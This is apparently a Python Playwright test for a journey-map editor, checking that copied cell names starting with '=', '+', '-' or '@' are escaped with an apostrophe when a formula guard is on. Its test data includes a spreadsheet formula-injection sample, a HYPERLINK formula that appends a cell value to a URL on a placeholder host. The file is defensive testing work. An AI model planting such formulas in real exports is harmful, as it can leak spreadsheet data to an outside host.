"""Texts on the clipboard that begin as formulas do: as they are, or safe for spreadsheets."""

from __future__ import annotations

import pytest
from playwright.sync_api import BrowserContext, expect

from browser.bare import bare, mounted
from browser.test_editor_hands import READ
from cjwidgets import JourneyMap, Stage

NAMES = ['=HYPERLINK("http://x/?"&A1)', "+1", "-2+3", "@SUM(1)", "Ask", "'=old"]
SAFE = ['\'=HYPERLINK("http://x/?"&A1)', "+1", "'-2+3", "'@SUM(1)", "Ask", "''=old"]


@pytest.mark.parametrize("guarded", [False, True])
def test_what_begins_as_a_formula(context: BrowserContext, guarded: bool) -> None:
    jm = JourneyMap("Shop", stages=[Stage(name, id=f"s{at}") for at, name in enumerate(NAMES)])
    page = bare(context, jm, guard_formulas=guarded)
    editor = mounted(page)
    editor.cell("stage", "s0").focus()
    editor.press(*["Shift+ArrowRight"] * (len(NAMES) - 1), "Control+c")
    text, html = page.evaluate(READ)
    assert text.split("\t") == (SAFE if guarded else NAMES)
    assert (">'=HYPERLINK" in html) == (">'-2+3" in html) == guarded
    assert ">+1<" in html
    # Pasted here it is what it was.
    editor.press("Escape", "Control+v")
    expect(editor.root.locator('[data-row="stage"] .cjw-name')).to_have_text(NAMES)
    editor.cell("stage", "s5").focus()
    editor.press("Control+v")
    expect(editor.root.locator('[data-row="stage"] .cjw-name')).to_have_text(NAMES[:5] + NAMES)
    context.close()
